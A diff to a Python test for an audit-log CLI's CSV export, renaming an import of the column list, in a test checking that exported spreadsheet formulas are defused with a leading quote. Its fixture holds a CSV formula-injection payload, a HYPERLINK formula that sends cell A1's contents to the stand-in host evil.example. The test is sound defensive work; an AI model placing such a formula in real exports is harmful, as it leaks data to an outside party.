@@ -99,8 +99,8 @@ def test_agency_key_and_lookup_round_trip(
 def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
     runner: CliRunner, make_app: AppFactory, tmp_path: Path
 ) -> None:
-    from lookup.audit.records import AUDIT_CSV_COLUMNS
     from lookup.extensions import state_store
+    from lookup.store.audit_record import CSV_COLUMNS
 
     typed = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     with make_app().app_context():
@@ -113,7 +113,7 @@ def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
     assert run(runner, "audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
     with target.open(newline="", encoding="utf-8") as handle:
         header, *rows = list(csv.reader(handle))
-    assert tuple(header) == AUDIT_CSV_COLUMNS
+    assert tuple(header) == CSV_COLUMNS
     [row] = [dict(zip(header, cells, strict=True)) for cells in rows]
     assert row["query"] == "'" + typed
     assert row["reason"] == "'-2+3"
